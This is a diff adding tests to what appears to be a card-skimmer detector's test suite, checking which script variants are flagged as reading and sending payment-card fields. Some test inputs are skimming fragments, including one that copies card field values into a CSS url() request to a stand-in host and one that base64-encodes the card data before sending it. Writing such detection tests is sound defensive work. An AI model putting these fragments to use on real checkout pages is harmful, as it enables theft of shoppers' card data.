@@ -101,6 +101,13 @@ describe('sends the first look cannot name', () => {
       .replace("'input, select, textarea'", "'img'")
       .replace('document.forms.length', 'document.forms[0].action')
     expect(rules(forms)).toContain('card-field-read-and-send')
+    // a sweep given something else later may hold the fields themselves
+    const again = counted.replace(
+      'for (var i = 0;',
+      'all = [].slice.call(all); all.forEach(function (f) { kinds[f.name] = f.value }); for (var i = 0;',
+    )
+    expect(again).toContain('[].slice.call(all)')
+    expect(rules(again)).toContain('card-field-read-and-send')
   })
 
   it("a card sent where the answer is read and its token posted home is a tokenizer's round trip", () => {
@@ -114,6 +121,10 @@ describe('sends the first look cannot name', () => {
     const oneWay = source.replace(/\s*\.then\(function \(r\)[^]*?\}\);\n\s*\}\);/, ';')
     expect(oneWay).not.toContain('/checkout/token')
     expect(analyzeScript(oneWay).verdict).toBe('malicious')
+    // nor when the card goes encoded: no processor is sent base64 of it
+    const encoded = source.replace('body: body.toString()', 'body: btoa(body.toString())')
+    expect(encoded).not.toBe(source)
+    expect(analyzeScript(encoded).verdict).toBe('malicious')
   })
 
   it('a long list of selectors joined into one string still names the card fields in it', () => {
@@ -133,6 +144,9 @@ describe('sends the first look cannot name', () => {
     // prose, paths and lists of other words stay what they are
     expect(namesCardField(list.join(', and then ').replace(/cc|card|cv|exp/g, 'x'))).toBe(false)
     expect(namesCardField(`${'a,'.repeat(150)}cardnumber/readme.md`)).toBe(false)
+    const prose = `Enter your card number, expiry date, security code (CVV) and name, ${'then press pay, '.repeat(12)}`
+    expect(prose.length).toBeGreaterThan(200)
+    expect(namesCardField(prose)).toBe(false)
   })
 
   it('CSS that loads a URL for what is typed into card fields is a send the browser makes', () => {
@@ -150,6 +164,15 @@ describe('sends the first look cannot name', () => {
         st.textContent = 'body{background:url(https://img.example/p.gif?d=' + btoa(f.value) + ')}'
         document.head.appendChild(st) })`
     expect(points(carried)).toBe(60)
+    // markup showing a typed value beside an icon's url() is a preview, not a request for it
+    const preview = `var n = document.querySelector('#cc_number'), p = document.querySelector('.preview')
+      n.addEventListener('input', function () {
+        p.innerHTML = '<i style="background:url(/img/card.svg)"></i>' + n.value.slice(-4) })`
+    expect(points(preview)).toBeUndefined()
+    // floating labels keyed on a card field being empty or not
+    const labels = source.replace(/\[value\*="' \+ pair \+ '"\]/, '[value=""]')
+    expect(labels).toContain('[value=""]')
+    expect(points(labels)).toBeUndefined()
   })
 
   it("what an object's methods keep in this.#field or this.field travels with it", () => {
